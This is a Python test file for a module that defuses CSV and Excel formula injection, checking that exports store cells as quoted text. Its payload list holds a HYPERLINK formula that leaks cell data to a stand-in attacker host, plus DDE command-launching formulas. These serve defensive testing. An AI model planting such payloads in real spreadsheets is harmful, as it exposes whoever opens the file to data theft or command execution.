"""Cell text stays text: CSV injection defused, openpyxl cells stored as strings."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from decimal import Decimal
from pathlib import Path
from typing import Literal

import pytest
from factory import active_sheet
from hypothesis import given, settings
from hypothesis import strategies as st

from gendan.model.sanitize import (
    FORMULA_TRIGGERS,
    as_text_cell,
    csv_row,
    csv_safe,
    looks_like_formula,
    ooxml_escape,
    openpyxl_set_text,
)

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_a_quote(payload: str) -> None:
    assert looks_like_formula(payload)
    assert csv_safe(payload) == "'" + payload
    assert as_text_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["SC-2026-001", "苹果 80#", "", "a=b", "1+1", "O'Brien", "#N/A"])
def test_ordinary_text_unchanged(text: str) -> None:
    assert not looks_like_formula(text)
    assert csv_safe(text) == text
    assert as_text_cell(text) == text


@pytest.mark.parametrize("text", ["-5", "+3.5", "-0.25", "1e5", "-1E-3", " -7"])
def test_plain_number_text_stays_in_csv(text: str) -> None:
    """A numeric literal cannot execute; keeping it avoids a visible ' in every negative."""
    assert csv_safe(text) == text


def test_plain_number_text_keeps_its_prefix_for_live_excel() -> None:
    """In Excel, typing -5 makes a number; a text cell must stay text."""
    assert as_text_cell("-5") == "'-5"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "TRUE"),
        (False, "FALSE"),
        (3, "3"),
        (-3, "-3"),
        (1.0, "1"),
        (1.5, "1.5"),
        (1e20, "1e+20"),
        (Decimal("12345.60"), "12345.60"),
        (dt.date(2026, 1, 5), "2026-01-05"),
        (dt.datetime(2026, 1, 5), "2026-01-05"),
        (dt.datetime(2026, 1, 5, 8, 30), "2026-01-05 08:30:00"),
        (math.inf, "inf"),
    ],
)
def test_csv_text_of_values(value: object, text: str) -> None:
    assert csv_safe(value) == text


def test_non_text_passes_through_as_text_cell() -> None:
    for v in (None, 1, -1.5, True, dt.date(2026, 1, 1)):
        assert as_text_cell(v) is v


@settings(max_examples=400)
@given(st.text())
def test_no_csv_field_can_start_a_formula(text: str) -> None:
    out = csv_safe(text)
    stripped = out.lstrip(" \u00a0\u3000")
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        float(stripped)  # only plain numbers may start with + or -
    assert out in (text, "'" + text)


@settings(max_examples=100)
@given(
    st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()), max_size=8)
)
def test_csv_roundtrip_keeps_the_text(row: list[object]) -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row(row))
    (back,) = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert back == csv_row(row)


@pytest.mark.parametrize("payload", [*PAYLOADS, "-5", "plain"])
def test_openpyxl_cells_are_stored_as_strings(tmp_path: Path, payload: str) -> None:
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    ws = active_sheet(wb)
    openpyxl_set_text(ws["A1"], payload)
    openpyxl_set_text(ws["A2"], 42)
    out = tmp_path / "t.xlsx"
    wb.save(out)
    back = active_sheet(load_workbook(out))
    assert back["A1"].data_type == "s"
    # openpyxl normalises a lone CR to LF on save/load, as Excel does
    assert back["A1"].value == payload.replace("\r", "\n")
    assert back["A1"].quotePrefix == looks_like_formula(payload)
    assert back["A2"].value == 42

    import zipfile

    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_calamine_reads_the_text_back(tmp_path: Path) -> None:
    from openpyxl import Workbook
    from python_calamine import CalamineWorkbook

    wb = Workbook()
    for i, p in enumerate(PAYLOADS[:5], start=1):
        openpyxl_set_text(active_sheet(wb).cell(row=i, column=1), p)
    out = tmp_path / "c.xlsx"
    wb.save(out)
    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in rows] == PAYLOADS[:5]


#: Unicode surrogates (Cs) cannot be written to a file as UTF-8
NO_SURROGATES: tuple[Literal["Cs"]] = ("Cs",)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=NO_SURROGATES), max_size=30))
def test_any_text_survives_openpyxl_and_calamine(text: str) -> None:
    """Control characters and literal _xHHHH_ sequences come back exactly."""
    import tempfile

    from openpyxl import Workbook
    from python_calamine import CalamineWorkbook

    wb = Workbook()
    openpyxl_set_text(
        active_sheet(wb)["A1"], "k" + text
    )  # a leading letter: calamine trims nothing
    with tempfile.TemporaryDirectory() as td:
        out = Path(td) / "t.xlsx"
        wb.save(out)
        got = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()[0][0]
    assert got == ("k" + text).replace("\r\n", "\n").replace("\r", "\n") or got == "k" + text


def test_ooxml_escape_examples() -> None:
    assert ooxml_escape("a\x0bb") == "a_x000B_b"
    assert ooxml_escape("_x0041_") == "_x005F_x0041_"
    assert ooxml_escape("plain 合同") == "plain 合同"
